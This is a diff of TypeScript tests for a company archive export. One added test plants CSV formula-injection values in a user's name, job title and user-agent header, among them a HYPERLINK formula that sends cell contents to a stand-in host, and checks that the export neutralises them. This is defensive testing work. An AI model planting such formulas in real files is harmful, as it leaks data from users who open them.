@@ -11,14 +11,22 @@ import {
   putArchiveJob,
 } from '../../src/data/archive-jobs';
 import { runArchiveJob } from '../../src/domain/archive-job';
+import { buildRecordPath } from '../../src/domain/archive-layout';
 import { writeZip } from '../../src/domain/archive-zip';
 import { epochSeconds } from '../../src/lib/clock';
 import { getConfig } from '../../src/lib/config';
 import { newId } from '../../src/lib/ids';
+import { MAX_USER_AGENT_LENGTH } from '../../src/lib/request-metadata';
 import { getS3Client } from '../../src/lib/s3-client';
 import { getArchives, getCourseFiles } from '../../src/lib/storage';
-import { buildTenant, buildUser, tokenFor } from '../support/builders';
-import { buildDocument, buildSignedDocument, expectNoScan } from '../support/documents';
+import { buildCompany, buildFirm, buildTenant, buildUser, tokenFor } from '../support/builders';
+import {
+  buildDocument,
+  buildSignedDocument,
+  buildUpload,
+  expectNoScan,
+  massSign,
+} from '../support/documents';
 import { useTestGateway } from '../support/gateway';
 
 const api = useTestGateway();
@@ -125,12 +133,89 @@ describe("a company's archive", () => {
     expect(rows.find((row) => row.Nume === 'Țărănescu')?.Prenume).toBe('Ștefan');
   });
 
+  it("writes a name and a signer's browser string that start like a formula as inert text", async () => {
+    const { admin, owner, company, firm } = await buildTenant();
+    const planted = '=HYPERLINK("http://x.example/?"&A1,"Click")';
+    const trainee = await buildUser(
+      { role: 'employee', firmId: firm.id, companyId: company.id },
+      { last_name: planted, job_title: '@SUM(1+1)' },
+    );
+    const document = await buildDocument(trainee);
+    const upload = await api.request('POST', '/api/signatures/upload/', {
+      body: await buildUpload(trainee, document.id),
+      token: await tokenFor(trainee),
+      // A tab in front and padding behind: what a header can carry to slip past a naive check.
+      headers: { 'user-agent': `\t${planted}${' x'.repeat(2000)}` },
+    });
+    expect(upload.status).toBe(201);
+    await massSign(api, admin, [document.id]);
+    await massSign(api, owner, [document.id]);
+
+    const answer = await api.post<{ zip_url: string }>(
+      '/api/generate-company-zip/',
+      { company_id: company.id },
+      await tokenFor(owner),
+    );
+
+    const zip = await downloadZip(answer.body.zip_url);
+    const [row]: Record<string, string>[] = parse((await zip.file('index.csv')?.async('string')) as string, {
+      bom: true,
+      delimiter: ';',
+      columns: true,
+    });
+    expect(row?.Nume).toBe(`'${planted}`);
+    expect(row?.['Funcția']).toBe("'@SUM(1+1)");
+    expect(row?.['Cursant: nume']).toBe(`'${planted} Ioana`);
+    const browser = row?.['Cursant: browser'] ?? '';
+    expect(browser.startsWith(`'${planted} x x`)).toBe(true);
+    expect(browser.length).toBeLessThanOrEqual(MAX_USER_AGENT_LENGTH + 1);
+    expect(
+      Object.values(row ?? {}).filter((cell) => /^[\s]*[=+\-@]/.test(cell)),
+      'no cell a spreadsheet would evaluate',
+    ).toEqual([]);
+  });
+
+  it("downloads under the company's name and shows each record's signing time as read in Romania", async () => {
+    const firm = await buildFirm();
+    const suffix = randomBytes(4).toString('hex');
+    const company = await buildCompany(firm.id, { name: `Construcții Țărm SRL ${suffix}` });
+    const owner = await buildUser({ role: 'owner', firmId: firm.id });
+    const employee = await buildUser({ role: 'employee', firmId: firm.id, companyId: company.id });
+    const document = await buildSignedDocument(api, { trainee: employee, owner });
+
+    const answer = await api.post<{ zip_url: string }>(
+      '/api/generate-company-zip/',
+      { company_id: company.id },
+      await tokenFor(owner),
+    );
+
+    const response = await fetch(answer.body.zip_url);
+    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Bucharest' }).format(new Date());
+    expect(response.headers.get('content-disposition')).toBe(
+      `attachment; filename="Arhiva Constructii Tarm SRL ${suffix} ${today}.zip"`,
+    );
+    const zip = await JSZip.loadAsync(await response.arrayBuffer());
+    const entry = zip.file(buildRecordPath(document));
+    // A ZIP time has no zone and 2-second steps: it must read as the wall clock in Bucharest did.
+    const inBucharest = new Intl.DateTimeFormat('sv-SE', {
+      timeZone: 'Europe/Bucharest',
+      dateStyle: 'short',
+      timeStyle: 'short',
+    }).format(new Date(document.signed_at as string));
+    expect(entry?.date.toISOString().slice(0, 16).replace('T', ' ')).toBe(inBucharest);
+  });
+
   it('reports a running job with its progress, then its link, to the owner who polls it', async () => {
     const { owner, company, firm, employee, admin } = await buildTenant();
     await buildSignedDocument(api, { trainee: employee, admin, owner });
     const jobId = newId();
     await putArchiveJob({
-      ...newArchiveJob({ companyId: company.id, firmId: firm.id, requestedBy: owner.id }),
+      ...newArchiveJob({
+        companyId: company.id,
+        companyName: company.name,
+        firmId: firm.id,
+        requestedBy: owner.id,
+      }),
       id: jobId,
     });
     const token = await tokenFor(owner);
